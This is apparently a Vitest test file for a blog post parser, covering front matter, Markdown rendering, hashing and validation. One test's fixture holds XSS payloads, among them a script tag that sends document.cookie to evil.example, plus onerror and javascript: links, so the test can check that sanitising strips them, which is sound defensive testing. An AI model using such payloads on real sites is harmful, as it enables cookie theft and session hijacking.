import { describe, expect, it } from 'vitest';
import { parsePostFile, wordCount } from './post-file';

const file = (front: string, body = 'Some **useful** advice.') => `---\n${front}\n---\n${body}\n`;
const FRONT = ['slug: typing-speed', "title: 'Typing faster'", 'date: 2026-03-03', 'author: Maya Chen', 'summary: How to type faster.'].join('\n');

describe('parsePostFile', () => {
  it('reads the front matter and renders the Markdown to HTML', () => {
    const post = parsePostFile('posts/typing-speed.md', file(FRONT, '## Warm up\n\nType **slowly** first.\n\n- one\n- two'));
    expect(post).toMatchObject({ slug: 'typing-speed', title: 'Typing faster', date: '2026-03-03', author: 'Maya Chen', summary: 'How to type faster.' });
    expect(post.content).toBe('<h2>Warm up</h2>\n<p>Type <strong>slowly</strong> first.</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>');
    expect(post.contentHash).toMatch(/^[0-9a-f]{64}$/);
  });

  it('sanitises HTML written into the Markdown: script, onerror and javascript: links go', () => {
    const body = [
      'Good advice.',
      '',
      '<script>document.location="https://evil.example/?c="+document.cookie</script>',
      '',
      '<img src=x onerror="alert(1)">',
      '',
      '[Click me](javascript:alert(1)) and <a href="javascript:alert(2)">me</a>',
    ].join('\n');
    const { content } = parsePostFile('typing-speed.md', file(FRONT, body));
    expect(content).not.toMatch(/<script|document\.location|onerror|<img/i);
    expect(content).not.toMatch(/href=/i);
    expect(content).toContain('<p>Good advice.</p>');
    // The Markdown link is left as plain text; the HTML link keeps its text without the target.
    expect(content).toContain('[Click me](javascript:alert(1)) and <a>me</a>');
  });

  it('changes the hash when anything stored changes, and only then', () => {
    const a = parsePostFile('typing-speed.md', file(FRONT));
    expect(parsePostFile('typing-speed.md', file(FRONT)).contentHash).toBe(a.contentHash);
    expect(parsePostFile('typing-speed.md', file(FRONT, 'Other advice.')).contentHash).not.toBe(a.contentHash);
    expect(parsePostFile('typing-speed.md', file(FRONT.replace('Maya Chen', 'Sam Ortiz'))).contentHash).not.toBe(a.contentHash);
  });

  it.each([
    ['no front matter', 'Just text', /no front matter/],
    ['a missing title', file(FRONT.replace("title: 'Typing faster'\n", '')), /title/],
    ['an impossible date', file(FRONT.replace('2026-03-03', '2026-02-30')), /date/],
    ['a bad slug', file(FRONT.replace('slug: typing-speed', 'slug: Typing Speed')), /slug/],
    ['a file not named after its slug', file(FRONT), /named after its slug/, 'other-name.md'],
    ['broken YAML', file('slug: [unclosed'), /not valid YAML/],
    ['an empty body', file(FRONT, ''), /no content/],
  ])('refuses a file with %s, naming the file', (_case, text, reason, name = 'typing-speed.md') => {
    expect(() => parsePostFile(`content/${name}`, text)).toThrow(reason);
    expect(() => parsePostFile(`content/${name}`, text)).toThrow(`content/${name}`);
  });
});

describe('wordCount', () => {
  it('counts the words of the text, not the tags or entities', () => {
    expect(wordCount('<h2>Two words</h2>\n<p>And <strong>three</strong> more &amp; done.</p>')).toBe(6);
  });
});
